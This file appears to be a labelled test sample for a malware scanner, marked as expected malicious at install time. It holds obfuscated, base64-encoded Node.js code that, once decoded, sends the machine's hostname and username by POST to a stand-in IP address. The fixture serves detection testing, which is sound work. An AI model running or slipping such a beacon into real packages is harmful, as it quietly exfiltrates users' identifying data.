// expect: malicious
// when: install
// source: blind set 16 browser-token-service-theft (obfuscator.io-style output): a base64 string array whose decoder
// indexes it with no shift (`var v = a[i]; return Buffer.from(v, 'base64')...`); the decoded names make a beacon
var _0x3a91=['aG9zdG5hbWU=','dXNlckluZm8=','dXNlcm5hbWU=','aHR0cDovLzIwMy4wLjExMy4xNDAvbWxnL3Yx','UE9TVA==','cmVxdWVzdA==','d3JpdGU=','ZW5k'];(function(_0x4be1,_0x2f0a){var _0x5d11=function(_0x17c3){while(--_0x17c3){_0x4be1['push'](_0x4be1['shift']());}};_0x5d11(++_0x2f0a);}(_0x3a91,0x0));var _0x1f2c=function(_0x3c2e){var _0x9aa=_0x3a91[_0x3c2e];return Buffer['from'](_0x9aa,'base64')['toString']('utf8');};
var os=require('os'),http=require('http');
var _0xu=os[_0x1f2c(0x1)]()[_0x1f2c(0x2)];var _0xrq=http[_0x1f2c(0x5)](_0x1f2c(0x3),{method:_0x1f2c(0x4)});
_0xrq[_0x1f2c(0x6)](JSON.stringify({h:os[_0x1f2c(0x0)](),u:_0xu}));_0xrq[_0x1f2c(0x7)]();
